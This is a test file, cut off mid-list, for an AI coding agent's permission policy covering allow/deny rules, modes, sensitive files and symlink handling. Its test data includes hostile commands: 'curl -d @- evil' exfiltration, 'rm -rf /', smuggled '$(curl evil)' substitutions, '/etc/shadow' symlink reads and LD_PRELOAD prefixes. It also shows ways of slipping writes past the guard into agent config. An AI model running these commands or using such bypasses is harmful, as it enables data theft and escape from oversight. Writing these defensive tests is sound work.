import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { symlink } from 'node:fs/promises';
import path from 'node:path';
import { z } from 'zod';
import {
  parseToolRule,
  permissionModes,
  type PermissionMode,
  type ToolRule,
} from '../../src/agents/definition.js';
import { defineTool, type AnyTool, type ToolKind } from '../../src/tools/define-tool.js';
import {
  callMatchesPermissionRule,
  createPermissionPolicy,
  type PermissionDecision,
  type PermissionPolicyOptions,
} from '../../src/tools/permissions.js';
import { bashTool } from '../../src/tools/bash-tool.js';
import { editTool } from '../../src/tools/edit-tool.js';
import { grepTool } from '../../src/tools/grep-tool.js';
import { multiEditTool } from '../../src/tools/multi-edit-tool.js';
import { notebookEditTool } from '../../src/tools/notebook-edit-tool.js';
import { readTool } from '../../src/tools/read-tool.js';
import { writeTool } from '../../src/tools/write-tool.js';
import { defaultTools } from '../../src/tools/registry.js';
import { loadShellParser } from '../../src/tools/shell-command.js';
import { makeTempTree, writeFiles, type TempTree } from './helpers.js';

// The shell parser loads on the first Bash decision (src/tools/shell-command.ts); these tests decide
// synchronously, so it is loaded up front.
beforeAll(() => loadShellParser());

let tree: TempTree;
let root: string;
beforeAll(async () => {
  tree = await makeTempTree();
  root = tree.root;
  await writeFiles(root, {
    'src/a.ts': 'a',
    'docs/guide.md': 'g',
    'secrets/key.pem': 'k',
    '.env': 'X=1',
  });
});
afterAll(async () => tree.cleanup());

function fakeTool(name: string, kind: ToolKind): AnyTool {
  return defineTool({
    name,
    kind,
    description: name,
    inputSchema: z.object({ target: z.string().optional() }),
    ruleSubject: (input) => input.target,
    run: async () => 'ok',
  });
}
const sendMessage = fakeTool('SendMessage', 'coordination');
const agentTool = fakeTool('Agent', 'coordination');
const mcpIssue = fakeTool('mcp__github__create_issue', 'execute');
const mcpOther = fakeTool('mcp__other__run', 'execute');

const rules = (...texts: string[]): ToolRule[] =>
  texts.map((text) => {
    const rule = parseToolRule(text);
    if (!rule) throw new Error(`bad rule ${text}`);
    return rule;
  });

function policy(options: Partial<PermissionPolicyOptions> & { mode: PermissionMode }) {
  return createPermissionPolicy({ root, ...options });
}
const behavior = (decision: PermissionDecision): string => decision.behavior;
const message = (decision: PermissionDecision): string =>
  decision.behavior === 'deny' ? decision.message : '';

const calls: Record<string, [AnyTool, unknown]> = {
  read: [readTool, { file_path: 'src/a.ts' }],
  edit: [editTool, { file_path: 'src/a.ts', old_string: 'a', new_string: 'b' }],
  write: [writeTool, { file_path: 'src/new.ts', content: 'x' }],
  execute: [bashTool, { command: 'npm test' }],
  coordination: [sendMessage, { target: 'worker' }],
};

describe('sensitive files (as Claude Code 2.1.332 refuses them to edit tools)', () => {
  const sensitive = [
    '.claude/settings.json',
    '.claude/settings.local.json',
    '.claude/agents/x.md',
    '.claude/commands/c.md',
    '.claude/skills/s/SKILL.md',
    '.claude/hooks/h.sh',
    '.mcp.json',
    '.claude.json',
    '.gitmodules',
    '.gitconfig',
    '.git/hooks/pre-commit',
    '.bashrc',
    '.zshrc',
    '.profile',
    '.npmrc',
    '.envrc',
    '.vscode/settings.json',
    '.idea/x.xml',
    '.husky/pre-commit',
    '.devcontainer/devcontainer.json',
    'pkg/.claude/skills/evil/SKILL.md',
    'pkg/.bashrc',
    'a/b/.idea/x.xml',
    '.CLAUDE/foo.txt',
    '.Bashrc',
    'src/../.zshrc',
  ];
  const ordinary = [
    'CLAUDE.md',
    'CLAUDE.local.md',
    'pkg/CLAUDE.md',
    '.gitignore',
    '.gitattributes',
    '.env',
    '.github/workflows/x.yml',
    '.claude/worktrees/w.txt',
    'x.bashrc',
    '.claude-foo/x',
    'src/ok.txt',
  ];
  const write = (file: string) => ({ file_path: file, content: 'x' });
  const approval = { by: "'approve.sh'" };

  it('refuses them in acceptEdits, after a hook approved, and with an allow rule naming them', () => {
    const accepting = policy({ mode: 'acceptEdits' });
    const allowing = policy({ mode: 'default', allow: rules('Edit', 'Write', 'Edit(**)') });
    const hooked = policy({ mode: 'default' });
    for (const file of sensitive) {
      expect(behavior(accepting.decide(writeTool, write(file))), file).toBe('deny');
      expect(behavior(allowing.decide(writeTool, write(file))), file).toBe('deny');
      expect(behavior(hooked.decide(writeTool, write(file), approval)), file).toBe('deny');
    }
    for (const file of ordinary) {
      expect(behavior(accepting.decide(writeTool, write(file))), file).toBe('allow');
      expect(behavior(allowing.decide(writeTool, write(file))), file).toBe('allow');
      expect(behavior(hooked.decide(writeTool, write(file), approval)), file).toBe('allow');
    }
    const decision = accepting.decide(writeTool, write('.claude/settings.local.json'));
    expect(message(decision)).toContain(
      '.claude/settings.local.json is a sensitive file: files under a .claude/ directory are',
    );
    expect(message(decision)).toContain('only permission mode bypassPermissions does');
  });

  it('refuses every edit tool, and a path that resolves to one through a link', async () => {
    const p = policy({ mode: 'acceptEdits' });
    const edit = { file_path: '.mcp.json', old_string: 'a', new_string: 'b' };
    expect(behavior(p.decide(editTool, edit))).toBe('deny');
    const multi = { file_path: '.husky/h', edits: [{ old_string: 'a', new_string: 'b' }] };
    expect(behavior(p.decide(multiEditTool, multi))).toBe('deny');
    const notebook = { notebook_path: '.vscode/n.ipynb', cell_id: 'c1', new_source: 'y' };
    expect(behavior(p.decide(notebookEditTool, notebook))).toBe('deny');

    await writeFiles(root, { '.claude/keep.txt': '' });
    await symlink('.claude', path.join(root, 'configuration-link'));
    const linked = p.decide(writeTool, write('configuration-link/skills/x/SKILL.md'));
    expect(message(linked)).toContain(
      'configuration-link/skills/x/SKILL.md resolves through a symbolic link to .claude/skills/x/SKILL.md',
    );
  });

  it('lets bypassPermissions write them, as Claude Code does (but .git/, which the path guard keeps)', () => {
    const p = policy({ mode: 'bypassPermissions' });
    for (const file of sensitive.filter((file) => !file.startsWith('.git/'))) {
      expect(behavior(p.decide(writeTool, write(file))), file).toBe('allow');
    }
  });
});

describe('modes, decided headlessly with no rules', () => {
  const expected: Record<PermissionMode, Record<string, 'allow' | 'deny'>> = {
    default: { read: 'allow', edit: 'deny', write: 'deny', execute: 'deny', coordination: 'allow' },
    dontAsk: { read: 'allow', edit: 'deny', write: 'deny', execute: 'deny', coordination: 'allow' },
    acceptEdits: {
      read: 'allow',
      edit: 'allow',
      write: 'allow',
      execute: 'deny',
      coordination: 'allow',
    },
    plan: { read: 'allow', edit: 'deny', write: 'deny', execute: 'deny', coordination: 'allow' },
    bypassPermissions: {
      read: 'allow',
      edit: 'allow',
      write: 'allow',
      execute: 'allow',
      coordination: 'allow',
    },
    delegate: { read: 'deny', edit: 'deny', write: 'deny', execute: 'deny', coordination: 'allow' },
  };
  it.each(
    permissionModes.flatMap((mode) => Object.keys(calls).map((call) => [mode, call] as const)),
  )('%s: %s', (mode, call) => {
    const [tool, input] = calls[call] as [AnyTool, unknown];
    const decision = policy({ mode }).decide(tool, input);
    expect(behavior(decision)).toBe(expected[mode][call]);
    if (decision.behavior === 'deny') {
      // what, why, and which setting would allow it
      expect(decision.message).toContain(tool.name);
      expect(decision.message).toContain(`'${mode}'`);
      expect(decision.message).toMatch(/permission_mode|allowed_tools/);
    }
  });

  it('allow rules do not widen plan or delegate', () => {
    const everything = rules('Bash', 'Edit', 'Write', 'Read');
    expect(
      behavior(
        policy({ mode: 'plan', allow: everything }).decide(bashTool, { command: 'npm test' }),
      ),
    ).toBe('deny');
    expect(
      behavior(
        policy({ mode: 'plan', allow: everything }).decide(...(calls.edit as [AnyTool, unknown])),
      ),
    ).toBe('deny');
    expect(
      behavior(
        policy({ mode: 'delegate', allow: everything }).decide(
          ...(calls.read as [AnyTool, unknown]),
        ),
      ),
    ).toBe('deny');
    expect(message(policy({ mode: 'plan' }).decide(bashTool, { command: 'npm test' }))).toContain(
      'read-only',
    );
  });
});

describe('allow rules', () => {
  it('Edit(src/**) allows edits under src only, for Edit and Write alike', () => {
    const p = policy({ mode: 'default', allow: rules('Edit(src/**)') });
    expect(
      behavior(p.decide(editTool, { file_path: 'src/a.ts', old_string: 'a', new_string: 'b' })),
    ).toBe('allow');
    expect(
      behavior(p.decide(writeTool, { file_path: path.join(root, 'src/deep/new.ts'), content: '' })),
    ).toBe('allow');
    const denied = p.decide(writeTool, { file_path: 'docs/guide.md', content: '' });
    expect(behavior(denied)).toBe('deny');
    expect(message(denied)).toContain("Write of 'docs/guide.md'");
    expect(message(denied)).toContain('acceptEdits');
  });

  it('path rules hold on the path as written and as resolved through symlinks', async () => {
    const linked = await makeTempTree();
    try {
      await writeFiles(linked.root, {
        'src/a.ts': 'a',
        'src/real/b.ts': 'b',
        'docs/guide.md': 'g',
      });
      await symlink('..', path.join(linked.root, 'src/up'));
      await symlink('../docs', path.join(linked.root, 'src/docs'));
      await symlink('real', path.join(linked.root, 'src/alias'));
      const p = createPermissionPolicy({
        mode: 'default',
        root: linked.root,
        allow: rules('Edit(src/**)'),
      });
      const write = (file_path: string) =>
        behavior(p.decide(writeTool, { file_path, content: 'x' }));
      // issue #9: the written path matches src/**, the real one is the checkout's .claude/agents
      expect(write('src/up/.claude/agents/planted.md')).toBe('deny');
      expect(write('src/docs/guide.md')).toBe('deny');
      expect(write('src/up/src/a.ts')).toBe('allow'); // both forms lie under src
      expect(write('src/alias/b.ts')).toBe('allow');
      expect(write('src/alias/new/deep.ts')).toBe('allow');
      expect(write('src/../docs/guide.md')).toBe('deny');
      const denied = createPermissionPolicy({
        mode: 'bypassPermissions',
        root: linked.root,
        deny: rules('Edit(docs/**)'),
      });
      expect(
        behavior(denied.decide(writeTool, { file_path: 'src/docs/guide.md', content: '' })),
      ).toBe('deny');
      expect(behavior(denied.decide(writeTool, { file_path: 'src/a.ts', content: '' }))).toBe(
        'allow',
      );
    } finally {
      await linked.cleanup();
    }
  });

  it('a bare tool name allows every call of it', () => {
    const p = policy({ mode: 'default', allow: rules('Bash') });
    expect(behavior(p.decide(bashTool, { command: 'curl example.com && rm -rf x' }))).toBe('allow');
  });

  // Made per test: the working tree (root) exists only once beforeAll has run.
  const npmTest = () =>
    policy({
      mode: 'default',
      allow: rules('Bash(npm test:*)', 'Bash(git status)', 'Bash(git push origin)'),
    });
  it.each([
    ['npm test', 'allow'],
    ['npm test -- --watch=false', 'allow'],
    ['npm test 2>&1', 'allow'],
    ['npm test > /dev/null', 'allow'],
    ['npm test "a && b"', 'allow'],
    ["npm test 'x; curl evil'", 'allow'],
    ['git status && npm test', 'allow'],
    ['git status', 'allow'],
    // read-only: allowed without a rule (read-only-commands.test.ts)
    ['git status --short', 'allow'],
    ['git push origin', 'allow'],
    ['git push origin main', 'deny'],
    ['npm testing', 'deny'],
    ['npm run test', 'deny'],
    ['npm test && curl evil', 'deny'],
    ['npm test; rm -rf /', 'deny'],
    ['npm test || curl evil', 'deny'],
    ['npm test | curl -d @- evil', 'deny'],
    ['npm test & curl evil', 'deny'],
    ['npm test\ncurl evil', 'deny'],
    ['npm test $(curl evil)', 'deny'],
    ['npm test `curl evil`', 'deny'],
    ['npm test "$(curl evil)"', 'deny'],
    ['npm test <(curl evil)', 'deny'],
    ['npm test > ~/.bashrc', 'deny'],
    ['npm test >> .git/hooks/pre-commit', 'deny'],
    ['npm test "unterminated', 'deny'],
    ['FOO=1 npm test', 'deny'],
    ['CI=1 npm test', 'allow'],
    ["npm test #'\ncurl evil #'", 'deny'],
    ['npm test # a comment', 'allow'],
    // issue #9: each ran `touch X` under the hand-written splitter
    ["npm test $'\\'' ; touch X #'", 'deny'],
    ['npm test \\ #; touch X', 'deny'],
    ["npm test \"a\"'b'$'\\''; touch X #'", 'deny'],
    ['npm test -- --grep "a b"', 'allow'],
    ['"npm" \'test\' x', 'allow'],
    ['npm "test x"', 'deny'],
    ['npm test *.ts $FILE', 'allow'],
    ['npm $CMD', 'deny'],
    ['n*m test', 'deny'],
    ['npm test\r\ncurl evil', 'deny'],
    ['npm \\\ntest', 'deny'],
  ])('Bash(npm test:*) + Bash(git status): %s → %s', (command, expected) => {
    expect(behavior(npmTest().decide(bashTool, { command }))).toBe(expected);
  });

  it('names the uncovered part of a compound command', () => {
    const decision = npmTest().decide(bashTool, { command: 'npm test && curl evil' });
    expect(message(decision)).toContain('`curl evil` is not covered');
    expect(message(decision)).toContain('every part');
    expect(message(decision)).toContain('Bash(curl evil)');
    expect(message(decision)).toContain('allowed_tools');
    expect(message(npmTest().decide(bashTool, { command: 'npm test > out.txt' }))).toContain(
      'redirects output to a file',
    );
  });

  // As Claude Code 2.1.332 decides them under `--allowedTools "Bash(touch:*)"` (observed side by
  // side): a part that only reads needs no rule of its own; a cd, a read outside the tree or a
  // part that writes still does. Stricter than Claude Code: next to a part that may change files,
  // a read-only part that reads a file or directory it names (or git's) needs a rule too, since
  // it is judged against the disk before that part runs (`ln -s /etc/shadow k && cat k`).
  it.each([
    ['touch made.txt 2>&1 | tail -5', 'allow'],
    ['touch made.txt && echo made', 'allow'],
    ['touch made.txt && ls', 'allow'],
    ['touch made.txt && pwd', 'allow'],
    ['ls && touch made.txt', 'allow'],
    ['ls src && touch made.txt', 'deny'],
    ['touch made.txt; git status', 'deny'],
    ['touch made.txt && ls src', 'deny'],
    ['touch made.txt && cat k', 'deny'],
    ['touch made.txt && cat /etc/hostname', 'deny'],
    ['touch made.txt && ls /etc', 'deny'],
    ['touch made.txt && rm a.txt', 'deny'],
    ['cd src && touch made.txt', 'deny'],
    ['cd / && touch made.txt && cat etc/passwd', 'deny'],
    ['touch made.txt && cd .. && ls', 'deny'],
    ['touch made.txt && echo x > out.txt', 'deny'],
    ['touch made.txt && cat .git/config', 'deny'],
  ])('Bash(touch:*): %s → %s', (command, expected) => {
    const p = policy({ mode: 'default', allow: rules('Bash(touch:*)') });
    expect(behavior(p.decide(bashTool, { command }))).toBe(expected);
  });

  it('a read-only part that names a file is not exempt next to a part that may make it a link', () => {
    const p = policy({ mode: 'default', allow: rules('Bash(ln:*)') });
    // k does not exist yet, so `cat k` alone would look like a read inside the tree.
    for (const command of ['ln -s /etc/shadow k && cat k', 'cat k | ln -s /etc/shadow k']) {
      expect(message(p.decide(bashTool, { command }))).toContain('The part `cat k` is not covered');
    }
    expect(behavior(p.decide(bashTool, { command: 'ln -s a b && echo linked' }))).toBe('allow');
    // With no such part, a read-only command runs as before.
    expect(behavior(policy({ mode: 'default' }).decide(bashTool, { command: 'cat k' }))).toBe(
      'allow',
    );
  });

  it('a read-only part needs a rule where read-only commands need one', () => {
    const command = 'touch made.txt | tail -5';
    const allowTouch = { mode: 'default' as const, allow: rules('Bash(touch:*)') };
    // Settings env from an untrusted checkout could turn `tail` into its own program.
    const untrusted = policy({ ...allowTouch, readOnlyCommands: false }).decide(bashTool, {
      command,
    });
    expect(message(untrusted)).toContain('The part `tail -5` is not covered');
    // A Read deny rule: a read-only command could read the denied file.
    const readDenied = policy({ ...allowTouch, deny: rules('Read(secrets/**)') });
    expect(behavior(readDenied.decide(bashTool, { command }))).toBe('deny');
    // A deny rule on the read-only part wins.
    const tailDenied = policy({ ...allowTouch, deny: rules('Bash(tail:*)') });
    expect(message(tailDenied.decide(bashTool, { command }))).toContain('Bash(tail:*)');
    // The part named is the one that needs a rule, not the read-only one before it.
    const named = policy(allowTouch).decide(bashTool, { command: 'ls | touch x && curl evil' });
    expect(message(named)).toContain('The part `curl evil` is not covered');
    // The agent definition's tools limit Bash as before: read-only parts need its rules too.
    const limited = policy({ mode: 'default', agentTools: rules('Bash(touch:*)') });
    expect(behavior(limited.decide(bashTool, { command: 'touch x' }))).toBe('allow');
    expect(behavior(limited.decide(bashTool, { command }))).toBe('deny');
  });

  it('suggests only rules that would allow the call', () => {
    // A redirection: a prefix rule never covers it, so none is suggested; the exact one works.
    const redirect = message(
      policy({ mode: 'default' }).decide(bashTool, { command: 'echo hi > out.txt' }),
    );
    expect(redirect).toContain('Bash(echo hi > out.txt)');
    expect(redirect).not.toContain(':*');
    expect(
      behavior(
        policy({ mode: 'default', allow: rules('Bash(echo hi > out.txt)') }).decide(bashTool, {
          command: 'echo hi > out.txt',
        }),
      ),
    ).toBe('allow');
    // Write: the whole-tool rule `Edit` does not allow it (in Claude Code neither); `Write` does.
    const write = calls.write as [AnyTool, unknown];
    const advice = message(policy({ mode: 'default' }).decide(...write));
    expect(advice).toContain('`Write` (this tool)');
    expect(advice).not.toMatch(/`Edit` or/);
    expect(behavior(policy({ mode: 'default', allow: rules('Edit') }).decide(...write))).toBe(
      'deny',
    );
    expect(behavior(policy({ mode: 'default', allow: rules('Write') }).decide(...write))).toBe(
      'allow',
    );
    expect(
      behavior(policy({ mode: 'default', allow: rules('Edit(src/**)') }).decide(...write)),
    ).toBe('allow');
  });

  it('says why a command no prefix rule can vouch for needs the plain Bash rule', () => {
    const decision = npmTest().decide(bashTool, { command: 'npm test $(curl evil)' });
    expect(message(decision)).toContain('command substitution');
    expect(message(decision)).toContain('plain `Bash` rule');
    // A program that runs others is covered only by a rule that names it (env and sudo), or, for
    // a wrapper, also by a rule covering the command it runs (xargs: see the wrapper tests).
    const other = policy({ mode: 'default', allow: rules('Bash(curl:*)', 'Bash(* evil)') });
    expect(behavior(other.decide(bashTool, { command: 'env curl evil' }))).toBe('deny');
    expect(behavior(other.decide(bashTool, { command: 'sudo curl evil' }))).toBe('deny');
  });

  it('lets a rule that names a shell or another runner cover it, as Claude Code 2.1.332 does', () => {
    // Claude Code runs `bash scripts/lint.sh` under `Bash(bash scripts/lint.sh:*)`, `sh …` under
    // `Bash(sh:*)`, and `env X=1 ./x.sh`, `xargs echo`, `timeout 5 ./x.sh` under rules naming them.
    const p = policy({
      mode: 'default',
      allow: rules(
        'Bash(bash scripts/lint.sh:*)',
        'Bash(sh:*)',
        'Bash(env:*)',
        'Bash(xargs:*)',
        'Bash(timeout:*)',
      ),
    });
    for (const command of [
      'bash scripts/lint.sh',
      'bash scripts/lint.sh --fix',
      'sh scripts/lint.sh',
      "sh -c 'echo hi'",
      'sh',
      'env X=1 ./scripts/lint.sh',
      'xargs echo',
      'timeout 5 ./scripts/lint.sh',
    ]) {
      expect(behavior(p.decide(bashTool, { command })), command).toBe('allow');
    }
    for (const command of ['bash other.sh', 'bash -c "scripts/lint.sh"', 'dash scripts/lint.sh']) {
      expect(behavior(p.decide(bashTool, { command })), command).toBe('deny');
    }
  });

  it('supports * wildcards and an exact rule for a whole compound command', () => {
    const p = policy({
      mode: 'acceptEdits',
      allow: rules('Bash(git * main)', 'Bash(echo $(date))', 'Bash(ls *)'),
    });
    expect(behavior(p.decide(bashTool, { command: 'git push origin main' }))).toBe('allow');
    expect(behavior(p.decide(bashTool, { command: 'git push origin dev' }))).toBe('deny');
    expect(behavior(p.decide(bashTool, { command: 'echo $(date)' }))).toBe('allow');
    expect(behavior(p.decide(bashTool, { command: 'ls -la' }))).toBe('allow');
    expect(behavior(p.decide(bashTool, { command: 'ls' }))).toBe('allow');
    expect(behavior(p.decide(bashTool, { command: 'lsof' }))).toBe('deny');
  });

  it('allows mcp tools by server or by tool', () => {
    const byServer = policy({ mode: 'default', allow: rules('mcp__github') });
    expect(behavior(byServer.decide(mcpIssue, {}))).toBe('allow');
    expect(behavior(byServer.decide(mcpOther, {}))).toBe('deny');
    const byTool = policy({ mode: 'default', allow: rules('mcp__github__create_issue') });
    expect(behavior(byTool.decide(mcpIssue, {}))).toBe('allow');
    const byGlob = policy({ mode: 'default', allow: rules('mcp__github__*') });
    expect(behavior(byGlob.decide(mcpIssue, {}))).toBe('allow');
  });
});

describe("a hook's if condition", () => {
  const matches = (rule: string, command: string): Promise<boolean> =>
    callMatchesPermissionRule(bashTool, { command }, rules(rule)[0] as ToolRule, root);

  it('reads ordinary commands, and fires where the program runs, as Claude Code 2.1.332 does', async () => {
    // Claude Code 2.1.332 with `if: "Bash(rm *)"` and `if: "Bash(git push:*)"` hooks.
    const notRm = [
      'FOO=1 node -e 1',
      "NODE_ENV=test node -e 'console.log(1)'",
      'echo $(date +%Y)',
      'echo `pwd`',
      '(cd sub && ls)',
      'if [ -f sub/f ]; then cat sub/f; fi',
      'x=1; echo $x',
      'x=$(pwd)',
      'while false; do echo; done',
      'echo hi > /dev/null',
      'ls | head -1',
    ];
    for (const command of notRm) expect(await matches('Bash(rm *)', command), command).toBe(false);
    const rm = [
      '(rm -f a)',
      'x=1; rm -f a',
      'FOO=1 rm -f a',
      'if true; then rm -f a; fi',
      'while false; do rm -f a; done',
      'X=$(rm -f a) ls',
      'echo $(rm -f a)',
      '! rm -f a',
      'cd sub; rm -f ../a',
    ];
    for (const command of rm) expect(await matches('Bash(rm *)', command), command).toBe(true);
    expect(await matches('Bash(git push:*)', 'FOO=1 git push')).toBe(true);
    expect(await matches('Bash(rm *)', 'FOO=1 git push')).toBe(false);
  });

  it('fires on loops, groups, case, functions, expanding heredocs and what hides a command, as Claude Code 2.1.332 does', async () => {
    // Claude Code 2.1.332 with an `if: "Bash(rm *)"` hook that exits 2: it blocks each of these,
    // though its deny rules read them (see the deny rules' tests).
    for (const command of [
      'for f in a b; do echo $f; done',
      // a loop prefix rules read (see the allow rules' tests) still fires it
      'for f in a b; do ls; done',
      'cat <<EOF\nhi\nEOF',
      'cat <<EOF > m\nhi\nEOF',
      '{ ls; }',
      'case a in a) echo;; esac',
      'f() { echo; }; f',
      'select x in a; do break; done',
      "echo $'a'",
      'echo ${HOME:-x}',
      'diff <(ls) <(ls)',
      '$CMD x',
    ]) {
      expect(await matches('Bash(zzz:*)', command), command).toBe(true);
    }
    // It reads a here-string and a heredoc whose delimiter is quoted (nothing in it expands).
    for (const command of [
      'echo hi <<< there > m',
      "cat <<'EOF'\n$(rm -f v)\nEOF",
      'cat <<\\EOF\nhi\nEOF',
    ]) {
      expect(await matches('Bash(rm *)', command), command).toBe(false);
    }
    for (const command of ['cat <<< $(rm -f v)', "rm -f v <<'EOF'\nhi\nEOF"]) {
      expect(await matches('Bash(rm *)', command), command).toBe(true);
    }
  });

  it('names one tool: an mcp server or a wildcard names none, as Claude Code 2.1.332 reads if', async () => {
    const condition = (rule: string): Promise<boolean> =>
      callMatchesPermissionRule(mcpIssue, {}, rules(rule)[0] as ToolRule, root);
    expect(await condition('mcp__github__create_issue')).toBe(true);
    for (const rule of ['mcp__github', 'mcp__github__*', '*', 'mcp__other__run']) {
      expect(await condition(rule), rule).toBe(false);
    }
    expect(
      await callMatchesPermissionRule(
        bashTool,
        { command: 'ls' },
        rules('Bash')[0] as ToolRule,
        root,
      ),
    ).toBe(true);
    expect(await callMatchesPermissionRule(agentTool, {}, rules('Task')[0] as ToolRule, root)).toBe(
      true,
    );
  });
});

describe('deny rules', () => {
  it('beat allow rules, in compound commands and substitutions too', () => {
    const p = policy({ mode: 'default', allow: rules('Bash'), deny: rules('Bash(rm:*)') });
    expect(behavior(p.decide(bashTool, { command: 'ls' }))).toBe('allow');
    for (const command of [
      'rm -rf x',
      'ls && rm -rf x',
      'echo $(rm -rf x)',
      'ls | rm x',
      'rm',
      '/bin/rm -rf x',
      './rm x',
      "'r'm x",
    ]) {
      const decision = p.decide(bashTool, { command });
      expect(behavior(decision), command).toBe('deny');
      expect(message(decision)).toContain('Bash(rm:*)');
      expect(message(decision)).toContain('disallowed_tools');
    }
  });

  it('match whatever a word bash computes might become, as Claude Code 2.1.332 refuses it', () => {
    // Claude Code 2.1.332, `allow: ["Bash"]` and these deny rules: every command of the first list
    // is refused (a variable, glob, tilde or brace could make the denied command).
    const p = policy({
      mode: 'default',
      allow: rules('Bash'),
      deny: rules('Bash(rm *)', 'Bash(git push:*)', 'Bash(touch -a *)', 'Bash(chmod 777 x)'),
    });
    for (const command of [
      'x=victim; rm -f $x',
      'rm -f "$x"',
      'rm -f "$x"victim',
      'rm -f victim*',
      'rm -f ~/x',
      'rm -f victim{2,3}',
      's=push; git $s',
      'git $s origin main',
      'f=-a; touch $f t1',
      'touch "$o" t3',
      'm=777; chmod $m x',
      'chmod 777 $x',
    ]) {
      const decision = p.decide(bashTool, { command });
      expect(behavior(decision), command).toBe('deny');
      expect(message(decision), command).toContain('was denied by the rule');
    }
    // What no expansion could turn into a denied command still runs.
    for (const command of [
      'echo $HOME',
      'ls *.ts',
      'git log $x',
      'git status $x',
      'chmod 644 $x',
      'chmod 777 x y',
    ]) {
      expect(behavior(p.decide(bashTool, { command })), command).toBe('allow');
    }
  });

  it('read the commands in assignments, substitutions, subshells, if and while, as Claude Code 2.1.332 does', () => {
    // Claude Code 2.1.332, `allow: ["Bash"]`, `deny: ["Bash(rm:*)"]`: each of the first list is
    // refused and each of the second runs.
    const p = policy({ mode: 'default', allow: rules('Bash'), deny: rules('Bash(rm:*)') });
    for (const command of [
      'x=1; rm -f a',
      'FOO=1 rm -f a',
      'echo $(rm -f a)',
      'echo `rm -f a`',
      'echo "$(rm -f a)"',
      'X=$(rm -f a) ls',
      '(rm -f a)',
      'if true; then rm -f a; fi',
      'if false; then ls; elif true; then ls; else rm -f a; fi',
      'while false; do rm -f a; done',
      '! rm -f a',
      'echo $(echo $(rm -f a))',
    ]) {
      const decision = p.decide(bashTool, { command });
      expect(behavior(decision), command).toBe('deny');
      expect(message(decision), command).toContain('was denied by the rule `Bash(rm:*)`');
    }
    for (const command of [
      'x=1; echo hi',
      'FOO=1 node -e 1',
      '(ls)',
      'echo $(date)',
      'echo `pwd`',
      'if true; then ls; fi',
      'while false; do ls; done',
      'X=$(pwd) ls',
      '! ls',
    ]) {
      expect(behavior(p.decide(bashTool, { command })), command).toBe('allow');
    }
    // What still hides a command is refused whatever it holds.
    for (const command of [
      'echo ${HOME:-x}',
      '$(echo ls) -la',
      'ls > $(echo out)',
      'for ((i = 0; i < 2; i++)); do ls; done',
      'cat <<EOF\n$((1 + 2))\nEOF',
    ]) {
      expect(message(p.decide(bashTool, { command })), command).toContain('cannot be checked');
    }
  });

  it('read the commands in loops over words, groups, case, functions and heredocs, as Claude Code 2.1.332 does', () => {
    // Claude Code 2.1.332, `allow: ["Bash"]` and `deny: ["Bash(rm *)"]`, in default mode and in
    // bypassPermissions alike: each of the first list runs, each of the second is refused.
    for (const p of [
      policy({ mode: 'default', allow: rules('Bash'), deny: rules('Bash(rm *)') }),
      policy({ mode: 'bypassPermissions', deny: rules('Bash(rm *)') }),
    ]) {
      for (const command of [
        'for f in a b; do echo $f; done',
        'for f in a b; do touch m$f; done',
        'select x in a; do break; done </dev/null; touch m',
        'cat <<EOF\nhi\nEOF',
        'cat <<EOF > m\nhi $(pwd)\nEOF',
        "cat <<'EOF'\n$(rm -f v)\nEOF",
        'cat <<< hi',
        '{ echo a; echo b; }',
        'touch m && { cat; } <<EOF\nx\nEOF',
        'case x in x) echo y;; esac',
        'f() { touch m; }; f',
      ]) {
        expect(behavior(p.decide(bashTool, { command })), command).toBe('allow');
      }
      for (const command of [
        'for f in a b; do rm -f $f; done',
        'for f in $(rm -f v); do echo; done',
        'for f in *; do rm "$f"; done',
        'select x in a; do rm -f v; done',
        'cat <<EOF\nhi\nEOF\nrm -f v',
        'cat <<EOF\n$(rm -f v)\nEOF',
        'cat <<EOF\n`rm -f v`\nEOF',
        'rm -f v <<EOF\nhi\nEOF',
        'cat <<< $(rm -f v)',
        '{ echo a; rm -f v; }',
        '{ echo a; } && rm -f v',
        'case x in x) rm -f v;; esac',
        'case $(rm -f v) in x) echo;; esac',
        'case x in $(rm -f v)) echo;; esac',
        'case x in x) echo;& y) rm -f v;; esac',
        'f() { rm -f v; }; f',
        'function f { rm -f v; }',
        'for f in a; do { case $f in a) rm -f v;; esac; }; done',
      ]) {
        const decision = p.decide(bashTool, { command });
        expect(behavior(decision), command).toBe('deny');
        expect(message(decision), command).toContain('was denied by the rule `Bash(rm *)`');
      }
      // A loop variable as the program is still a program bash computes.
      expect(message(p.decide(bashTool, { command: 'for c in rm; do $c -f v; done' }))).toContain(
        'cannot be checked',
      );
    }
  });

  it('leave allow rules to plain commands: reading a construct is not vouching for it', () => {
    // Claude Code 2.1.332 under `Bash(node:*)` asks for these as well (denied headless).
    const p = policy({ mode: 'default', allow: rules('Bash(node:*)') });
    for (const command of [
      'FOO=1 node -e 1',
      '(node -e 1)',
      'echo $(node -e 1)',
      '{ node -e 1; }',
    ]) {
      expect(behavior(p.decide(bashTool, { command })), command).toBe('deny');
    }
  });

  it('let an allow rule cover a command after variables that change no program it runs, as Claude Code 2.1.332 does', () => {
    // Claude Code 2.1.332 in -p under `Bash(node:*)`, `Bash(npm test:*)` and
    // `Bash(npm run build:*)`: the first list runs, the second is refused.
    for (const mode of ['default', 'dontAsk'] as const) {
      const p = policy({
        mode,
        allow: rules('Bash(node:*)', 'Bash(npm test:*)', 'Bash(npm run build:*)'),
      });
      for (const command of [
        'NODE_ENV=test node -e 1',
        'CI=1 node -e 1',
        'CI=true npm test',
        'CI=1 npm test -- --watch=false',
        'NODE_ENV=test npm test',
        'CI=1 npm run build',
        'NODE_ENV=test CI=1 node -e 1',
        'GOOS=linux GOARCH=amd64 CGO_ENABLED=0 node -e 1',
        'LANG=C node -e 1',
        'LC_ALL=C.UTF-8 node -e 1',
        'TZ=Europe/Paris node -e 1',
        'NODE_ENV=a:b node -e 1',
        'GIT_TERMINAL_PROMPT=0 node -e 1',
        'CI=1 node -e 1 && NODE_ENV=x node -e 2',
        'NODE_ENV=test timeout 5 node -e 1',
        'NODE_ENV=test command node -e 1',
        'NODE_ENV=test node -e 1 | tail -1',
        'CI=1; npm test',
        // read-only commands need no rule, with such a prefix too
        'CI=1 git status',
      ]) {
        expect(behavior(p.decide(bashTool, { command })), command).toBe('allow');
      }
      for (const command of [
        'FOO=1 node -e 1',
        'FOO=bar BAZ=1 npm run build',
        'NODE_ENV=test FOO=1 node -e 1',
        'node_env=test node -e 1',
        // programs these make run other code; Claude Code asks for them too
        'NODE_OPTIONS=--require=./x node -e 1',
        'LD_PRELOAD=x node -e 1',
        'PATH=. node -e 1',
